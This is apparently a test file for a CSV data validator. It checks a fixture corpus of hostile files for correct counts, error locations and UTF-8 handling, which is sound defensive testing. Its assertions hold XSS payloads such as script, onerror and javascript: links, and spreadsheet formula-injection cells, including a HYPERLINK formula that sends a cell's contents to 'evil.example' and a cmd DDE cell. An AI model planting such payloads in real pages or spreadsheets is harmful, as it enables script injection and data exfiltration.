// The hostile-file corpus (tests/fixtures/bad, listed with its expected problems in expected.json):
// every file read, every problem located by row and column, every row counted.
import { describe, it, expect } from 'vitest';
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { readDataDir } from '../../../scripts/readDataDir.ts';
import { codeCheck } from '../../../src/lib/data/isCountryCode.ts';
import { decodeUtf8 } from '../../../src/lib/data/decodeUtf8.ts';
import { validateTable } from '../../../src/lib/data/validateTable.ts';
import { formatDataError } from '../../../src/lib/data/dataError.ts';
import type { TableContext } from '../../../src/lib/data/tableValidator.ts';

interface Expected {
  file: string;
  resource: string;
  read: number;
  kept: number;
  rejected: number;
  delimiter?: string;
  /** Each problem in order; `reason` is the start of the reason given. */
  problems: { row: number; column: string; reason: string }[];
}

const dir = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../fixtures/bad');
const corpus = JSON.parse(readFileSync(path.join(dir, 'expected.json'), 'utf8')) as Expected[];
const shipped = readDataDir('data');
const ctx: TableContext = {
  isCode: codeCheck(shipped.descriptor),
  keys: new Map([['sources.source_id', new Set(shipped.tables.sources!.rows.map((r) => String(r.source_id)))]]),
};
const resource = (name: string) => shipped.descriptor.resources.find((r) => r.name === name)!;

/** A file as the checker reads it: bytes, decoded as UTF-8 (or named), then validated. */
function check(bytes: Uint8Array, name: string, options: Partial<TableContext> = {}) {
  const decoded = decodeUtf8(bytes);
  return validateTable(decoded.text, resource(name), { ...ctx, ...options }, decoded.problem ? [decoded.problem] : []);
}

const OBS_HEADER = 'indicator,period,from,to,value,unit,qualifier,item,source_id,note';
const encode = (text: string) => new TextEncoder().encode(text);

describe('the hostile-file corpus', () => {
  it('holds at least 40 files, each listed once in expected.json', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(40);
    const files = readdirSync(dir).filter((f) => f.endsWith('.csv')).sort();
    expect(corpus.map((e) => e.file).sort()).toEqual(files);
  });

  it.each(corpus)('$file: read $read = kept $kept + rejected $rejected, problems located', (e) => {
    const t = check(readFileSync(path.join(dir, e.file)), e.resource);
    expect({ read: t.read, kept: t.kept, rejected: t.rejected, delimiter: t.delimiter }).toEqual({ read: e.read, kept: e.kept, rejected: e.rejected, delimiter: e.delimiter ?? ',' });
    expect(t.read).toBe(t.kept + t.rejected);
    expect(t.errors.map((p) => ({ row: p.row, column: p.column, reason: p.reason.slice(0, e.problems[t.errors.indexOf(p)]?.reason.length ?? 0) }))).toEqual(e.problems);
    expect(t.problemsTotal).toBe(e.problems.length);
    for (const p of t.errors) expect(p.file).toBe(resource(e.resource).path);
  });
});

describe('hostile text is kept as plain text or reported, never anything else', () => {
  it('markup in every observation text column is kept character for character', () => {
    const t = check(readFileSync(path.join(dir, 'xss-observations.csv')), 'oil-exports');
    expect(t.rows.map((r) => [r.item, r.note])).toEqual([
      ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>'],
      ['javascript:alert(1)', '<a href="javascript:alert(1)">x</a>'],
      [null, '<svg onload=alert(1)>'],
    ]);
  });

  it('markup in sources, claims and visits is kept as text; only links and views are checked', () => {
    const sources = check(readFileSync(path.join(dir, 'xss-sources.csv')), 'sources');
    expect(sources.rows[0]).toMatchObject({ publisher: '<img src=x onerror=alert(1)>', title: '<script>alert(1)</script>', evidence: '<svg onload=alert(1)>' });
    expect(sources.rows.map((r) => r.url)).toEqual(['https://example.org/a?q=<b>', 'HTTPS://EXAMPLE.ORG/B']);
    const claims = check(readFileSync(path.join(dir, 'xss-claims.csv')), 'claims');
    expect(claims.rows).toEqual([expect.objectContaining({
      claim_id: '<b>c1</b>', claim: '<img src=x onerror=alert(1)>', indicator: '<i>ind</i>', unit: '<u>unit</u>', period_a: '<s>2023</s>', period_b: '<p>2024</p>',
      group_by: '<script>alert(2)</script>', view: 'start=2023&end=2024', what_the_collected_data_says: '<script>alert(1)</script>', source_ids: '<a href="javascript:alert(3)">src</a>',
    })]);
    const visits = check(readFileSync(path.join(dir, 'xss-visits.csv')), 'visits');
    expect(visits.rows[0]).toMatchObject({
      initiator: '<iframe src=javascript:alert(4)>', people: '<img src=x onerror=alert(1)>', title: '<script>alert(1)</script>', note: 'javascript:alert(1)',
    });
  });

  it('formula cells are kept as the text they are (downloads neutralise them, the checker does not rewrite)', () => {
    const t = check(readFileSync(path.join(dir, 'formula-injection.csv')), 'oil-exports');
    expect(t.rows.map((r) => [r.item, r.note])).toEqual([
      ['=HYPERLINK("http://evil.example/?"&A1)', '+1+1'],
      ['@SUM(A1:A2)', '-2+3'],
      ["=cmd|' /C calc'!A0", '\t=1'],
    ]);
  });
});

describe('a 10 MB field (made here, not committed)', () => {
  const huge = 'x'.repeat(10_000_000);

  it('is echoed cut to 200 characters with its length', () => {
    const text = `${OBS_HEADER}\ncrude_oil_exports,2019,AZE,ISR,${huge},tonnes,approx,,todayaz_2019_h1,\n`;
    const t = check(encode(text), 'oil-exports');
    expect(t.errors).toHaveLength(1);
    expect(t.errors[0]).toMatchObject({ row: 2, column: 'value', reason: 'not a number', value: `${'x'.repeat(200)}… (10000000 characters)` });
    expect(formatDataError(t.errors[0]!).length).toBeLessThan(300);
  });

  it('inside an unterminated quote, is cut too and the rows after it are counted', () => {
    const text = `${OBS_HEADER}\ncrude_oil_exports,2019,AZE,ISR,1,tonnes,approx,,todayaz_2019_h1,"${huge}\ncrude_oil_exports,2020,AZE,ISR,1,tonnes,approx,,todayaz_2019_h1,\n`;
    const t = check(encode(text), 'oil-exports');
    expect(t.errors[0]!.value.length).toBeLessThan(250);
    expect(t.errors[0]!.reason).toMatch(/^unterminated quote: row 3 is inside the quoted field opened here/);
    expect([t.read, t.kept, t.rejected]).toEqual([2, 0, 2]);
  });
});

describe('problems beyond the cap are counted, not kept', () => {
  const text = [OBS_HEADER, ...Array.from({ length: 500 }, (_, i) => `crude_oil_exports,${1990 + (i % 40)},AZE,ISR,bad${i},tonnes,approx,,todayaz_2019_h1,`)].join('\n');

  it('keeps 200 problems in full by default, with the total and the count by kind', () => {
    const t = check(encode(text), 'oil-exports');
    expect(t.errors).toHaveLength(200);
    expect(t.problemsTotal).toBe(500);
    expect(t.problemCounts).toEqual(new Map([['value: not a number', 500]]));
    expect([t.read, t.rejected]).toEqual([500, 500]);
  });

  it('keeps every problem when the caller asks (check-data)', () => {
    expect(check(encode(text), 'oil-exports', { maxProblems: Infinity }).errors).toHaveLength(500);
  });
});

describe('decodeUtf8', () => {
  it('returns clean UTF-8 as it is, without a BOM and without a problem', () => {
    expect(decodeUtf8(encode('\uFEFFa,é\n'))).toEqual({ text: 'a,é\n' });
  });

  it('names the line and byte of the first byte that is not UTF-8', () => {
    const bytes = Uint8Array.from([0x61, 0x0a, 0x62, 0x2c, 0xe9, 0x20, 0x0a]);
    expect(decodeUtf8(bytes).problem).toMatchObject({ row: 2, column: '', value: 'b,\uFFFD ', reason: expect.stringMatching(/^not UTF-8 text \(byte 0xE9 on line 2/) });
  });

  it('reads UTF-16 by its BOM and says it is not UTF-8', () => {
    const bytes = Uint8Array.from([0xfe, 0xff, 0, 0x61, 0, 0x2c]);
    expect(decodeUtf8(bytes)).toEqual({ text: 'a,', problem: expect.objectContaining({ row: 1, reason: expect.stringMatching(/UTF-16/) }) });
  });
});
